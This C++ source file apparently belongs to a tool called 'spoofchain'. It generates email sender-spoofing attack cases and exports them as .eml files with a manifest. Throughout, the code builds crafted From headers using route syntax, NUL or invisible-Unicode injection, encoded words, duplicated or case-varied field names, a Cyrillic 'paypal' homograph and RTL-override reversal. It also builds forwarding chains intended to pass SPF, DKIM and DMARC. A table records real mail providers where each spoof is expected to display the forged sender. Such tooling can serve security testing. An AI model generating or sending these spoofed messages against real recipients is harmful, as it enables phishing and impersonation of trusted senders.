#include "spoofchain/corpus.hpp"

#include <algorithm>
#include <random>
#include <set>

#include "json.hpp"
#include "spoofchain/config.hpp"
#include "spoofchain/error.hpp"
#include "spoofchain/text.hpp"
#include "spoofchain/unicode.hpp"

namespace spoofchain {

namespace {

constexpr std::string_view kDate = "Thu, 01 Oct 2026 09:00:00 +0000";
constexpr std::string_view kSubject = "Quarterly figures";
constexpr std::string_view kBody =
    "Hi Bob,\r\n\r\nThe quarterly figures are attached as discussed.\r\n\r\nRegards\r\n";

const std::string kRlo = "\xE2\x80\xAE";
const std::string kLro = "\xE2\x80\xAD";
const std::string kU_FFFF = "\xEF\xBF\xBF";

struct Addr {
  std::string local;
  std::string domain;
  std::string full() const { return local + "@" + domain; }
};

Addr split_addr(std::string_view s, std::string_view role) {
  auto at = s.rfind('@');
  if (at == std::string_view::npos || at == 0 || at + 1 == s.size()) {
    throw Error(ErrorCode::unsupported_knob, std::string(role) + " is not an address: " + std::string(s));
  }
  return {std::string(s.substr(0, at)), text::to_lower(s.substr(at + 1))};
}

bool is_sending(AttackId id) { return id == AttackId::A1 || id == AttackId::A2; }
bool is_forwarding(AttackId id) { return id == AttackId::A9 || id == AttackId::A10 || id == AttackId::A11; }

// Part of the message a receiving/rendering id rewrites.
std::string_view footprint(AttackId id) {
  switch (id) {
    case AttackId::A1:
    case AttackId::A3: return "mail-from";
    case AttackId::A4: return "from-fields";
    case AttackId::A5: return "from-list";
    case AttackId::A6:
    case AttackId::A7:
    case AttackId::A8:
    case AttackId::A12:
    case AttackId::A13:
    case AttackId::A14: return "from-address";
    default: return "";
  }
}

std::string message_id(std::uint64_t seed, std::string_view domain) {
  std::mt19937_64 rng(seed);
  char buf[17];
  std::snprintf(buf, sizeof buf, "%016llx", static_cast<unsigned long long>(rng()));
  return "<" + std::string(buf) + "@" + std::string(domain) + ">";
}

void check_combination(const std::vector<AttackId>& ids) {
  if (ids.empty()) throw Error(ErrorCode::incompatible_combination, "no attack ids");
  std::set<AttackId> seen;
  std::map<std::string_view, AttackId> footprints;
  int sending = 0;
  int forwarding = 0;
  for (auto id : ids) {
    if (!seen.insert(id).second) {
      throw Error(ErrorCode::incompatible_combination, "duplicate id " + std::string(to_string(id)));
    }
    sending += is_sending(id);
    forwarding += is_forwarding(id);
    auto fp = footprint(id);
    if (fp.empty()) continue;
    if (auto it = footprints.find(fp); it != footprints.end()) {
      throw Error(ErrorCode::incompatible_combination, std::string(to_string(it->second)) + " and " +
                                                           std::string(to_string(id)) + " both rewrite " +
                                                           std::string(fp));
    }
    footprints.emplace(fp, id);
  }
  if (sending > 1) throw Error(ErrorCode::incompatible_combination, "more than one sending-stage attack");
  if (forwarding > 1) throw Error(ErrorCode::incompatible_combination, "more than one forwarding attack");
}

std::string a4_field_name(int variant) {
  switch (variant) {
    case 1: return "From ";
    case 2: return "fROM";
    case 3: return kU_FFFF + "From";
    default: return "From";
  }
}

std::string a6_payload(int variant, const std::string& spoof, const Addr& attacker) {
  switch (variant) {
    case 0: return "<@" + attacker.domain + ":" + spoof + ">";
    case 1: return "<" + spoof + ">, ,<" + attacker.full() + ">";
    case 2: return "<" + spoof + "(@" + attacker.domain + ")>";
    case 3: return "<" + spoof + std::string(1, '\0') + "@" + attacker.domain + ">";
    case 4: return "<" + spoof + kU_FFFF + "@" + attacker.domain + ">";
    default: return "<" + spoof + ";@" + attacker.domain + ">";
  }
}

std::string a5_value(int variant, const std::string& spoof_text, const std::string& spoof, const Addr& spoof_addr,
                     const Addr& attacker) {
  switch (variant) {
    case 1: return spoof_text + ", ,<" + attacker.full() + ">";
    case 2: return "[" + spoof + "], <" + attacker.full() + ">";
    case 3: return "(" + spoof_addr.local + ")" + spoof_text + ", (" + attacker.local + ")<" + attacker.full() + ">";
    default: return spoof_text + ", <" + attacker.full() + ">";
  }
}

void attach_witness(AttackCase& c, const Bindings& b, const Knobs& k) {
  c.expectations["strict-rfc"] = ExpectedOutcome{};
  if (c.ids.size() != 1) return;
  const auto& w = witness(c.ids.front());
  if (k.variant != w.variant || b.spoof != w.bindings.spoof || b.attacker != w.bindings.attacker ||
      b.target != w.bindings.target || k.forwarder_account != w.knobs.forwarder_account) {
    return;
  }
  c.expectations[w.scenario] = w.expected;
}

}  // namespace

std::string_view to_string(AttackId id) {
  static constexpr std::string_view names[] = {"A1", "A2", "A3", "A4",  "A5",  "A6",  "A7",
                                               "A8", "A9", "A10", "A11", "A12", "A13", "A14"};
  return names[static_cast<int>(id)];
}

std::optional<AttackId> parse_attack_id(std::string_view s) {
  for (auto id : all_attack_ids()) {
    if (text::iequals(s, to_string(id))) return id;
  }
  return std::nullopt;
}

std::vector<AttackId> all_attack_ids() {
  std::vector<AttackId> out;
  for (int i = 0; i <= static_cast<int>(AttackId::A14); ++i) out.push_back(static_cast<AttackId>(i));
  return out;
}

std::string_view to_string(AttackModel m) {
  switch (m) {
    case AttackModel::shared_mta: return "shared-mta";
    case AttackModel::direct_mta: return "direct-mta";
    case AttackModel::forward_mta: return "forward-mta";
  }
  return "?";
}

std::string_view to_string(Stage s) {
  switch (s) {
    case Stage::sending: return "sending";
    case Stage::receiving: return "receiving";
    case Stage::forwarding: return "forwarding";
    case Stage::rendering: return "rendering";
  }
  return "?";
}

Stage home_stage(AttackId id) {
  if (is_sending(id)) return Stage::sending;
  if (is_forwarding(id)) return Stage::forwarding;
  if (id == AttackId::A12 || id == AttackId::A13 || id == AttackId::A14) return Stage::rendering;
  return Stage::receiving;
}

int variant_count(AttackId id) {
  switch (id) {
    case AttackId::A4: return 4;
    case AttackId::A5: return 4;
    case AttackId::A6: return 6;
    case AttackId::A7: return 2;
    default: return 1;
  }
}

std::string variant_label(AttackId id, int v) {
  switch (id) {
    case AttackId::A4: {
      static const char* l[] = {"plain", "space-before-colon", "case-variation", "invisible-prefix"};
      return l[v];
    }
    case AttackId::A5: {
      static const char* l[] = {"plain-list", "null-member", "bracket", "comment"};
      return l[v];
    }
    case AttackId::A6: {
      static const char* l[] = {"route", "null-member", "comment", "nul", "invisible-unicode", "semantic-char"};
      return l[v];
    }
    case AttackId::A7: {
      static const char* l[] = {"encoded-word", "encoded-word-truncation"};
      return l[v];
    }
    default: return "default";
  }
}

std::string AttackCase::name() const {
  std::string out;
  for (auto id : ids) {
    if (!out.empty()) out += '+';
    out += to_string(id);
  }
  if (ids.size() == 1 && variant_count(ids.front()) > 1) out += "-v" + std::to_string(variant);
  return out;
}

AttackCase combine(const std::vector<AttackId>& ids, const Bindings& bindings, const Knobs& knobs) {
  check_combination(ids);
  auto has = [&](AttackId id) { return std::find(ids.begin(), ids.end(), id) != ids.end(); };
  auto spoof = split_addr(bindings.spoof, "spoof");
  auto attacker = split_addr(bindings.attacker, "attacker");
  split_addr(bindings.target, "target");
  if (text::iequals(bindings.spoof, bindings.attacker)) {
    throw Error(ErrorCode::unsupported_knob, "spoof and attacker identities must differ");
  }

  std::optional<AttackId> varied;
  for (auto id : ids) {
    if (variant_count(id) > 1) varied = id;
  }
  int limit = varied ? variant_count(*varied) : 1;
  if (knobs.variant < 0 || knobs.variant >= limit) {
    throw Error(ErrorCode::unsupported_knob, "variant " + std::to_string(knobs.variant) + " out of range");
  }
  if (has(AttackId::A3) && knobs.mail_from) {
    throw Error(ErrorCode::unsupported_knob, "A3 sends an empty MAIL FROM; a MAIL FROM override makes no sense");
  }

  AttackCase c;
  c.ids = ids;
  c.variant = knobs.variant;
  c.variant_label = varied ? variant_label(*varied, knobs.variant) : "default";
  c.spoof_identity = bindings.spoof;
  c.attacker_identity = bindings.attacker;
  c.target = bindings.target;

  const int v = knobs.variant;
  std::string spoof_text = "<" + bindings.spoof + ">";
  std::optional<std::string> id_mail_from;
  if (has(AttackId::A6)) spoof_text = a6_payload(v, bindings.spoof, attacker);
  if (has(AttackId::A7)) {
    spoof_text = encode_word_b(bindings.spoof);
    if (v == 1) spoof_text += encode_word_b(kU_FFFF) + "@" + attacker.domain;
  }
  if (has(AttackId::A8)) {
    auto labels = text::split(spoof.domain, '.');
    std::string sub = labels.size() >= 3 ? spoof.domain : "mail." + spoof.domain;
    c.spoof_identity = spoof.local + "@" + sub;
    spoof_text = "<" + c.spoof_identity + ">";
    id_mail_from = c.spoof_identity;
  }
  if (has(AttackId::A12)) {
    auto dot = spoof.domain.find('.');
    auto label = spoof.domain.substr(0, dot);
    auto rest = dot == std::string::npos ? std::string{} : spoof.domain.substr(dot);
    auto swapped = unicode::substitute_confusable(label);
    if (!swapped) throw Error(ErrorCode::unsupported_knob, "no confusable substitute in " + label);
    auto puny = unicode::idn_to_ascii(*swapped + rest);
    spoof_text = "<" + spoof.local + "@" + puny + ">";
    id_mail_from = attacker.local + "@" + puny;
  }
  if (has(AttackId::A13)) {
    auto dot = spoof.domain.find('.');
    auto label = spoof.domain.substr(0, dot);
    auto rest = dot == std::string::npos ? std::string{} : spoof.domain.substr(dot);
    if (knobs.split_at == 0 || knobs.split_at >= label.size()) {
      throw Error(ErrorCode::unsupported_knob, "split_at must fall inside " + label);
    }
    auto head = label.substr(0, knobs.split_at);
    auto tail = label.substr(knobs.split_at) + rest;
    spoof_text = "<" + spoof.local + "@" + head + "@" + tail + ">";
    id_mail_from = attacker.local + "@" + tail;
  }
  if (has(AttackId::A14)) {
    std::string reversed(spoof.domain.rbegin(), spoof.domain.rend());
    spoof_text = kRlo + reversed + "@" + kLro + text::to_lower(spoof.local);
  }

  std::string from_value = spoof_text;
  if (has(AttackId::A5)) from_value = a5_value(v, spoof_text, bindings.spoof, spoof, attacker);

  std::vector<std::pair<std::string, std::string>> fields;
  if (has(AttackId::A4)) {
    fields.emplace_back("From", "<" + bindings.attacker + ">");
    fields.emplace_back(a4_field_name(v), from_value);
  } else {
    fields.emplace_back("From", from_value);
  }
  fields.emplace_back("To", "<" + bindings.target + ">");
  fields.emplace_back("Subject", std::string(kSubject));
  fields.emplace_back("Date", std::string(kDate));
  fields.emplace_back("Message-ID", message_id(knobs.seed, attacker.domain));

  RawMessage first;
  first.header_block = make_header_block(fields);
  first.body = std::string(kBody);
  first.rcpt_to = {bindings.target};

  std::optional<AttackId> sending;
  std::optional<AttackId> forwarding;
  for (auto id : ids) {
    if (is_sending(id)) sending = id;
    if (is_forwarding(id)) forwarding = id;
  }

  if (sending && !forwarding) {
    c.model = {AttackModel::shared_mta};
    first.auth_username = bindings.attacker;
    first.mail_from = *sending == AttackId::A1 ? bindings.spoof : bindings.attacker;
    if (has(AttackId::A3)) first.mail_from.reset();
    first.helo_domain = attacker.domain;
  } else {
    c.model = {AttackModel::direct_mta};
    if (has(AttackId::A3)) {
      first.helo_domain = spoof.domain;
    } else {
      first.mail_from = knobs.mail_from ? *knobs.mail_from : id_mail_from ? *id_mail_from : bindings.attacker;
      first.helo_domain = address_domain(*first.mail_from);
    }
    first.client_ip = knobs.attacker_ip;
  }

  if (forwarding) {
    c.model = ids.size() > 1 ? std::vector{AttackModel::direct_mta, AttackModel::forward_mta}
                             : std::vector{AttackModel::forward_mta};
    std::string account;
    if (knobs.forwarder_account) {
      account = *knobs.forwarder_account;
    } else if (*forwarding == AttackId::A11) {
      throw Error(ErrorCode::unsupported_knob, "A11 needs a forwarder_account at the forwarding service");
    } else {
      account = attacker.local + "@" + spoof.domain;
    }
    split_addr(account, "forwarder account");
    first.rcpt_to = {account};
    ForwardSetup fw;
    fw.account = account;
    switch (*forwarding) {
      case AttackId::A9: fw.target = bindings.target; break;
      case AttackId::A10:
        fw.target = bindings.attacker;
        fw.target_verified = true;
        fw.resend = true;
        break;
      default:
        fw.target = bindings.target;
        fw.target_verified = true;
        break;
    }
    c.forward = fw;
    c.messages.push_back(first);
    if (fw.resend) {
      RawMessage resend = first;
      resend.mail_from = knobs.mail_from ? *knobs.mail_from : bindings.attacker;
      resend.helo_domain = attacker.domain;
      resend.rcpt_to = {bindings.target};
      resend.client_ip = knobs.attacker_ip;
      resend.auth_username.reset();
      c.messages.push_back(resend);
    }
  } else {
    c.messages.push_back(first);
  }
  attach_witness(c, bindings, knobs);
  return c;
}

AttackCase generate(AttackId id, const Bindings& bindings, const Knobs& knobs) {
  return combine({id}, bindings, knobs);
}

std::string_view to_string(Mutation m) {
  switch (m) {
    case Mutation::repeat_header: return "repeat-header";
    case Mutation::insert_space: return "insert-space";
    case Mutation::insert_unicode: return "insert-unicode";
    case Mutation::encode_word: return "encode-word";
    case Mutation::case_vary: return "case-vary";
  }
  return "?";
}

std::optional<Mutation> parse_mutation(std::string_view s) {
  for (auto m : {Mutation::repeat_header, Mutation::insert_space, Mutation::insert_unicode, Mutation::encode_word,
                 Mutation::case_vary}) {
    if (s == to_string(m)) return m;
  }
  return std::nullopt;
}

RawMessage mutate(const RawMessage& msg, Mutation mutation, std::string_view locus, std::uint64_t seed) {
  auto parse = parse_header_block(msg.header_block, QuirkProfile{});
  auto it = std::find_if(parse.fields.begin(), parse.fields.end(),
                         [&](const HeaderField& f) { return text::iequals(f.name, locus); });
  if (it == parse.fields.end()) throw Error(ErrorCode::locus_not_found, "no field named " + std::string(locus));
  std::mt19937_64 rng(seed);
  auto fields = parse.fields;
  auto pos = static_cast<std::size_t>(it - parse.fields.begin());
  auto& f = fields[pos];
  switch (mutation) {
    case Mutation::repeat_header: {
      auto copy = f;
      fields.insert(fields.begin() + static_cast<std::ptrdiff_t>(pos) + 1, copy);
      break;
    }
    case Mutation::insert_space: f.raw_name += ' '; break;
    case Mutation::insert_unicode: {
      static const std::string marks[] = {kU_FFFF, "\xE2\x80\x8B", "\xEF\xBB\xBF"};
      f.raw_name = marks[rng() % 3] + f.raw_name;
      break;
    }
    case Mutation::encode_word: f.raw_value = " " + encode_word_b(text::trim(unfold(f.raw_value))); break;
    case Mutation::case_vary: {
      std::string varied = f.raw_name;
      for (auto& ch : varied) {
        if (std::isalpha(static_cast<unsigned char>(ch)) && (rng() & 1)) {
          ch = static_cast<char>(std::islower(static_cast<unsigned char>(ch)) ? std::toupper(ch) : std::tolower(ch));
        }
      }
      if (varied == f.raw_name) {
        for (auto& ch : varied) {
          if (std::isalpha(static_cast<unsigned char>(ch))) {
            ch = static_cast<char>(std::islower(static_cast<unsigned char>(ch)) ? std::toupper(ch)
                                                                                 : std::tolower(ch));
            break;
          }
        }
      }
      f.raw_name = varied;
      break;
    }
  }
  RawMessage out = msg;
  out.header_block = serialize_fields(fields);
  return out;
}

const Witness& witness(AttackId id) {
  static const std::map<AttackId, Witness> table = [] {
    std::map<AttackId, Witness> t;
    auto exp = [](std::optional<bool> sending, SpfResult spf, DkimResult dkim, DmarcResult dmarc,
                  std::string shown) {
      ExpectedOutcome e;
      e.sending_accept = sending;
      e.spf = spf;
      e.dkim = dkim;
      e.dmarc = dmarc;
      e.displayed_address = std::move(shown);
      e.sic_alert = false;
      e.success = true;
      return e;
    };
    using S = SpfResult;
    using K = DkimResult;
    using D = DmarcResult;
    Bindings base;
    auto add = [&](AttackId id, std::string scenario, Bindings b, Knobs k, ExpectedOutcome e) {
      t[id] = Witness{std::move(scenario), k.variant, std::move(b), std::move(k), std::move(e)};
    };
    // A1/A2: the attacker holds an account on the spoofed domain's provider
    add(AttackId::A1, "zimbra-to-gmail", {"Alice@a.com", "Oscar@a.com", "Bob@b.com"}, {},
        exp(true, S::pass, K::none, D::pass, "Alice@a.com"));
    add(AttackId::A2, "sina-to-gmail", {"Alice@a.com", "Oscar@a.com", "Bob@b.com"}, {},
        exp(true, S::pass, K::none, D::pass, "Alice@a.com"));
    add(AttackId::A3, "yahoo", {"Alice@c.com", "Oscar@attack.com", "Bob@b.com"}, {},
        exp(std::nullopt, S::none, K::none, D::none, "Alice@c.com"));
    add(AttackId::A4, "icloud", base, {}, exp(std::nullopt, S::pass, K::none, D::pass, "Alice@a.com"));
    add(AttackId::A5, "qq", base, {}, exp(std::nullopt, S::pass, K::none, D::pass, "Alice@a.com"));
    {
      Knobs k;
      k.variant = 3;
      add(AttackId::A6, "gmail-thunderbird", base, k, exp(std::nullopt, S::pass, K::none, D::pass, "Alice@a.com"));
    }
    add(AttackId::A7, "outlook", base, {}, exp(std::nullopt, S::pass, K::none, D::none, "Alice@a.com"));
    add(AttackId::A8, "sina", base, {}, exp(std::nullopt, S::none, K::none, D::none, "Alice@mail.a.com"));
    add(AttackId::A9, "icloud-forward-gmail", {"Alice@fwd.com", "Oscar@attack.com", "Bob@b.com"}, {},
        exp(std::nullopt, S::pass, K::none, D::pass, "Alice@fwd.com"));
    add(AttackId::A10, "aliyun-forward-gmail", {"Alice@aliyun.com", "Oscar@attack.com", "Bob@b.com"}, {},
        exp(std::nullopt, S::pass, K::pass, D::pass, "Alice@aliyun.com"));
    {
      Knobs k;
      k.forwarder_account = "Oscar@fwd.com";
      add(AttackId::A11, "office365-forward-zoho", {"Admin@soft.com", "Oscar@attack.com", "Bob@b.com"}, k,
          exp(std::nullopt, S::pass, K::pass, D::pass, "Admin@soft.com"));
    }
    add(AttackId::A12, "icloud", {"admin@paypal.com", "Oscar@attack.com", "Bob@b.com"}, {},
        exp(std::nullopt, S::pass, K::none, D::none, "admin@\xD1\x80" "aypal.com"));
    add(AttackId::A13, "netease", {"admin@gmail.com", "Oscar@attack.com", "Bob@b.com"}, {},
        exp(std::nullopt, S::pass, K::none, D::none, "admin@gmail.com"));
    add(AttackId::A14, "outlook", base, {}, exp(std::nullopt, S::pass, K::none, D::none, "alice@a.com"));
    return t;
  }();
  return table.at(id);
}

AttackCase witness_case(AttackId id) {
  const auto& w = witness(id);
  return generate(id, w.bindings, w.knobs);
}

AttackCase shared_mta_case() {
  auto c = combine({AttackId::A2, AttackId::A4}, {"admin@paypal.com", "Oscar@yahoo.com", "Bob@b.com"});
  ExpectedOutcome e;
  e.sending_accept = true;
  e.spf = SpfResult::pass;
  e.dkim = DkimResult::none;
  e.dmarc = DmarcResult::pass;
  e.displayed_address = "admin@paypal.com";
  e.sic_alert = false;
  e.success = true;
  c.expectations["yahoo-to-icloud"] = e;
  return c;
}

AttackCase forwarding_case() {
  auto c = combine({AttackId::A2, AttackId::A3, AttackId::A10}, {"admin@aliyun.com", "Oscar@attack.com", "Bob@b.com"});
  ExpectedOutcome e;
  e.spf = SpfResult::pass;
  e.dkim = DkimResult::pass;
  e.dmarc = DmarcResult::pass;
  e.displayed_address = "admin@aliyun.com";
  e.sic_alert = false;
  e.success = true;
  c.expectations["aliyun-forward-gmail"] = e;
  return c;
}

// ---- manifest

namespace {

using nlohmann::json;

json to_json(const ExpectedOutcome& e) {
  json j;
  j["success"] = e.success;
  if (e.sending_accept) j["sending"] = *e.sending_accept ? "accept" : "reject";
  if (e.spf) j["spf"] = to_string(*e.spf);
  if (e.dkim) j["dkim"] = to_string(*e.dkim);
  if (e.dmarc) j["dmarc"] = to_string(*e.dmarc);
  if (e.displayed_address) j["displayed_address"] = *e.displayed_address;
  if (e.sic_alert) j["sic_alert"] = *e.sic_alert;
  return j;
}

template <typename E, std::size_t N>
std::optional<E> enum_from(const json& j, const char* key, const E (&values)[N]) {
  if (!j.contains(key)) return std::nullopt;
  auto s = j.at(key).get<std::string>();
  for (auto v : values) {
    if (to_string(v) == s) return v;
  }
  throw Error(ErrorCode::config, std::string("manifest: bad ") + key + " value " + s);
}

ExpectedOutcome expected_from(const json& j) {
  static constexpr SpfResult spf[] = {SpfResult::pass, SpfResult::fail, SpfResult::softfail, SpfResult::neutral,
                                      SpfResult::none, SpfResult::temperror, SpfResult::permerror};
  static constexpr DkimResult dkim[] = {DkimResult::pass, DkimResult::fail, DkimResult::none};
  static constexpr DmarcResult dmarc[] = {DmarcResult::pass, DmarcResult::fail, DmarcResult::none,
                                          DmarcResult::temperror};
  ExpectedOutcome e;
  e.success = j.value("success", false);
  if (j.contains("sending")) e.sending_accept = j.at("sending") == "accept";
  e.spf = enum_from(j, "spf", spf);
  e.dkim = enum_from(j, "dkim", dkim);
  e.dmarc = enum_from(j, "dmarc", dmarc);
  if (j.contains("displayed_address")) e.displayed_address = j.at("displayed_address").get<std::string>();
  if (j.contains("sic_alert")) e.sic_alert = j.at("sic_alert").get<bool>();
  return e;
}

json envelope_json(const RawMessage& m, const std::string& file) {
  json j;
  j["file"] = file;
  j["helo"] = m.helo_domain;
  j["mail_from"] = m.mail_from ? json(*m.mail_from) : json(nullptr);
  j["rcpt_to"] = m.rcpt_to;
  j["auth_username"] = m.auth_username ? json(*m.auth_username) : json(nullptr);
  j["client_ip"] = m.client_ip;
  return j;
}

RawMessage envelope_from(const json& j) {
  RawMessage m;
  m.helo_domain = j.value("helo", "");
  if (!j.at("mail_from").is_null()) m.mail_from = j.at("mail_from").get<std::string>();
  m.rcpt_to = j.at("rcpt_to").get<std::vector<std::string>>();
  if (!j.at("auth_username").is_null()) m.auth_username = j.at("auth_username").get<std::string>();
  m.client_ip = j.value("client_ip", "");
  return m;
}

}  // namespace

void export_corpus(const std::filesystem::path& dir, const std::vector<AttackCase>& cases) {
  std::filesystem::create_directories(dir);
  json manifest;
  manifest["schema_version"] = 1;
  manifest["cases"] = json::array();
  std::set<std::string> used;
  for (const auto& c : cases) {
    auto base = c.name();
    for (int n = 2; used.contains(base); ++n) base = c.name() + "_" + std::to_string(n);
    used.insert(base);
    json jc;
    jc["name"] = base;
    jc["ids"] = json::array();
    for (auto id : c.ids) jc["ids"].push_back(to_string(id));
    jc["model"] = json::array();
    for (auto m : c.model) jc["model"].push_back(to_string(m));
    jc["variant"] = c.variant;
    jc["variant_label"] = c.variant_label;
    jc["spoof_identity"] = c.spoof_identity;
    jc["attacker_identity"] = c.attacker_identity;
    jc["target"] = c.target;
    jc["messages"] = json::array();
    for (std::size_t i = 0; i < c.messages.size(); ++i) {
      auto file = base + "_step" + std::to_string(i + 1) + ".eml";
      write_file(dir / file, serialize_message(c.messages[i]));
      jc["messages"].push_back(envelope_json(c.messages[i], file));
    }
    if (c.forward) {
      jc["forward"] = {{"account", c.forward->account},
                       {"target", c.forward->target},
                       {"target_verified", c.forward->target_verified},
                       {"resend", c.forward->resend}};
    }
    jc["expectations"] = json::object();
    for (const auto& [name, e] : c.expectations) jc["expectations"][name] = to_json(e);
    manifest["cases"].push_back(jc);
  }
  write_file(dir / "manifest.json", manifest.dump(2) + "\n");
}

std::vector<AttackCase> import_corpus(const std::filesystem::path& dir) {
  json manifest;
  try {
    manifest = json::parse(read_file(dir / "manifest.json"));
  } catch (const json::exception& e) {
    throw Error(ErrorCode::config, std::string("manifest: ") + e.what());
  }
  std::vector<AttackCase> out;
  try {
    for (const auto& jc : manifest.at("cases")) {
      AttackCase c;
      for (const auto& id : jc.at("ids")) {
        auto parsed = parse_attack_id(id.get<std::string>());
        if (!parsed) throw Error(ErrorCode::config, "manifest: unknown attack id " + id.get<std::string>());
        c.ids.push_back(*parsed);
      }
      for (const auto& m : jc.at("model")) {
        auto s = m.get<std::string>();
        if (s == "shared-mta") c.model.push_back(AttackModel::shared_mta);
        else if (s == "direct-mta") c.model.push_back(AttackModel::direct_mta);
        else if (s == "forward-mta") c.model.push_back(AttackModel::forward_mta);
        else throw Error(ErrorCode::config, "manifest: unknown model " + s);
      }
      c.variant = jc.value("variant", 0);
      c.variant_label = jc.value("variant_label", "default");
      c.spoof_identity = jc.at("spoof_identity").get<std::string>();
      c.attacker_identity = jc.at("attacker_identity").get<std::string>();
      c.target = jc.value("target", "");
      for (const auto& jm : jc.at("messages")) {
        auto env = envelope_from(jm);
        c.messages.push_back(parse_eml(read_file(dir / jm.at("file").get<std::string>()), env));
      }
      if (jc.contains("forward")) {
        const auto& f = jc.at("forward");
        c.forward = ForwardSetup{f.at("account").get<std::string>(), f.at("target").get<std::string>(),
                                 f.value("target_verified", false), f.value("resend", false)};
      }
      if (jc.contains("expectations")) {
        for (const auto& [name, e] : jc.at("expectations").items()) c.expectations[name] = expected_from(e);
      }
      out.push_back(std::move(c));
    }
  } catch (const json::exception& e) {
    throw Error(ErrorCode::config, std::string("manifest: ") + e.what());
  }
  return out;
}

}  // namespace spoofchain
